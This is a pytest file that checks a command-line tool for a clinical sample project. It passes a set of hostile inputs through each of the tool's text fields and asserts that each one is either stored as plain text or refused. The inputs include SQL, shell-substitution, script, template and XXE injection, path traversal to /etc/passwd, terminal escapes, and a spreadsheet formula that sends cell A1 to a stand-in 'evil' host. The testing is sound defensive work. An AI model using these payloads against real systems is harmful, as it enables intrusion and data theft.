"""Hostile text in every field: it stays a text, or is refused in words; it never runs, moves a cursor or draws."""

import re

import pytest

from ctcore.accept import KINDS
from ctcore.files import look
from ctcore.project import Project
from tests.kit import make_all, make_project
from tests.shell import Said, ct

# Without NUL, which no process can be given; in a cell, tests/test_intake_fuzz.py has it
HOSTILE = {
    "sql": "x'); DROP TABLE entity; --",
    "shell": "$(touch pwned); `touch pwned` | touch pwned",
    "html": '"><script>alert(1)</script><img src=x onerror=alert(1)>',
    "formula": '=HYPERLINK("http://evil/?"&A1;"x")',
    "formula after a blank": "\t=1+1",
    "escape": "\x1b[2J\x1b]0;pwned\x07red",
    "path": "../../../etc/passwd",
    "format": "%s%n{0.__class__}%(x)s",
    "right to left": "\u202egpj.exe",
    "template": "{{ 7 * 7 }}{% raw %}",
    "xml": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "markdown": "![x](http://evil/x.png) [x](javascript:alert(1))",
    "line": "one\ntwo\r\nthree",
    "surrogate": "a\ud800b",
}
ALL = frozenset(KINDS)


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Project:
    """Two patients, three assays, all made; the reads of A1 are others by now."""
    project = make_project(tmp_path_factory.mktemp("injection") / "toy")
    make_all(project)
    (project.root / "reads/A1.txt").write_text("reads of A_\n")
    look(project)
    return project


# Every field of the command line that takes a text: what to say, with {} for the text
FIELDS: dict[str, tuple[str, ...]] = {
    "patient": ("register", "patient", "{}", "--set", "sex=F"),
    "specimen": ("register", "specimen", "{}", "--parent", "P1"),
    "parent": ("register", "assay", "AX", "--parent", "{}"),
    "value": ("register", "patient", "P1", "--set", "age={}"),
    "text value": ("register", "specimen", "S1", "--set", "site={}", "--update", "specimen.site"),
    "column": ("register", "patient", "P1", "--set", "{}=1"),
    "sheet": ("register", "{}"),
    "map": ("register", "sheet.csv", "--map", "{}=patient_id"),
    "update": ("register", "sheet.csv", "--update", "{}"),
    "node": ("why", "{}"),
    "path": ("path", "counted/{}"),
    "show": ("show", "{}"),
    "selection": ("plan", "--select", "{}"),
    "trace": ("trace", "{}"),
    "accept reason": ("accept", "counted/A1", "--reason", "{}"),
    "accept kinds": ("accept", "counted/A1", "--reason", "x", "--only", "{}"),
    "qc who": ("qc", "add", "assay/{}", "qc_fail", "--reason", "x"),
    "qc kind": ("qc", "add", "assay/A1", "{}", "--reason", "x"),
    "qc reason": ("qc", "add", "patient/P1", "qc_warn", "--reason", "{}"),
    "qc source": ("qc", "add", "specimen/S1", "qc_warn", "--reason", "x", "--source", "{}"),
    "qc step": ("qc", "add", "assay/A1", "qc_fail", "--reason", "x", "--analysis", "{}"),
    "qc batch": ("qc", "add", "--where", "assay.library={}", "qc_warn", "--reason", "x"),
    "qc sheet": ("qc", "add", "--from", "{}"),
    "qc resolve": ("qc", "resolve", "patient/P1", "--reason", "{}"),
    "consent who": ("consent", "set", "{}", "full"),
    "consent form": ("consent", "set", "P1", "full", "--form", "{}"),
    "consent reason": ("consent", "set", "P1", "full", "--reason", "{}"),
    "consent use": ("consent", "set", "P1", "limited", "--use", "{}"),
    "consent date": ("consent", "set", "P1", "full", "--date", "{}"),
    "why shown": ("query", "SELECT 1", "--include-excluded", "{} because"),
    "sql": ("query", "{}"),
    "sql value": ("query", "SELECT * FROM patients WHERE patient_id = '{}'"),
    "excluded": ("show", "counted/A1", "--excluded", "--reason", "{}"),
    "export table": ("export", "out.csv", "--table", "{}"),
    "cohort": ("cohort", "{}"),
    "pairing": ("cohort", "--pairing", "{}"),
    "reference": ("reference", "index", "{}"),
    "profile": ("plan", "--profile", "{}"),
}


def shown_safely(said: Said) -> None:
    """Nothing that moves the cursor or the direction of the text, in what people see."""
    for text in (said.out, said.err):
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\x80-\x9f\u202a-\u202e\u2066-\u2069]", text), repr(text)


@pytest.mark.parametrize("field", FIELDS)
def test_in_any_field_it_stays_a_text_or_is_refused_in_words(
    made: Project, field: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(made.root)
    for name, text in HOSTILE.items():
        words = [word.replace("{}", text) for word in FIELDS[field]]
        said = ct("-C", made.root, *words)
        assert said.code in (0, 1, 2, 3), (name, said)
        assert said.code in (0, 3) or said.err.startswith(("ct: ", "Usage: ", "Error: ")), (name, said)
        shown_safely(said)
    assert not list(made.root.rglob("pwned")) and not (made.root.parent / "pwned").exists()
